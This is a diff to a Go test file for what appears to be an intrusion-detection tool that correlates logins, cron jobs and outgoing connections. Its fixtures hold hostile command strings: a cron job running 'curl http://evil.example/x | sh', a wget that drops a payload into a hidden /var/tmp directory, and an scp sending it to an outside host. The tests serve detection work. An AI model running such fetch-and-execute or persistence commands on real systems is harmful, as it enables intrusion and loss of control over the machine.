@@ -36,6 +36,7 @@ func TestContacted(t *testing.T) {
 	packet := detect.Finding{Detection: "D34", What: detect.Outgoing, Account: "www-data", Mechanism: "connection", Source: "10.0.0.5", Service: "ssh", Method: "packet", Title: "packets", Rung: evidence.Effect, First: at("03:04:00"), Last: at("03:05:00"), For: quote("/var/log/kern.log")}
 	before := packet
 	before.First = at("01:00:00")
+	shared := login(detect.Login, "bob", "198.51.100.2", "publickey", "01:00:00", "01:10:00", detect.Access{FirstOfAccount: true})
 	open, shut := lie()[2], lie()[2]
 	shut.Detail = "protected by a passphrase"
 	for _, tc := range []struct {
@@ -54,6 +55,8 @@ func TestContacted(t *testing.T) {
 		{"without times, and others had it", "", []detect.Finding{bob, login(detect.Login, "bob", "198.51.100.2", "publickey", "01:00:00", "01:10:00", detect.Access{FirstOfAccount: true}), outgoing("bob", "", "ssh", "db1", "ssh db1", "")}},
 		{"without times, root's, and an administrator was root", "", []detect.Finding{bob, root, amyThere, sudo("amy", "03:20:00"), outgoing("root", "", "ssh", "db1", "ssh db1", "")}},
 		{"without times, to where he came from", "likely download 203.0.113.6 as bob", []detect.Finding{bob, login(detect.Login, "bob", "198.51.100.2", "publickey", "01:00:00", "01:10:00", detect.Access{FirstOfAccount: true}), outgoing("bob", "", "download", "203.0.113.6", "curl http://203.0.113.6/x", "")}},
+		{"without times, a program that he left running", "likely download 10.9.9.9 as bob", []detect.Finding{bob, root, shared, cron("/etc/cron.d/x", "/var/tmp/.x/y >/dev/null", detect.Critical, "03:02:00"), outgoing("bob", "", "download", "10.9.9.9", "wget -q http://10.9.9.9/y -O /var/tmp/.x/y", "")}},
+		{"without times, that program sent away by somebody who looks into it", "", []detect.Finding{bob, root, shared, cron("/etc/cron.d/x", "/var/tmp/.x/y >/dev/null", detect.Critical, "03:02:00"), outgoing("bob", "", "upload", "10.9.9.9", "scp /var/tmp/.x/y 10.9.9.9:", "")}},
 		{"a packet of the web server", "confirmed connection 10.0.0.5 as www-data", []detect.Finding{shell, packet}},
 		{"one that went before, too", "", []detect.Finding{shell, before}},
 		{"what he left calls", "likely download evil.example as root", []detect.Finding{bob, root, cron("/etc/cron.d/x", "curl http://evil.example/x | sh", detect.Critical, "03:02:00")}},
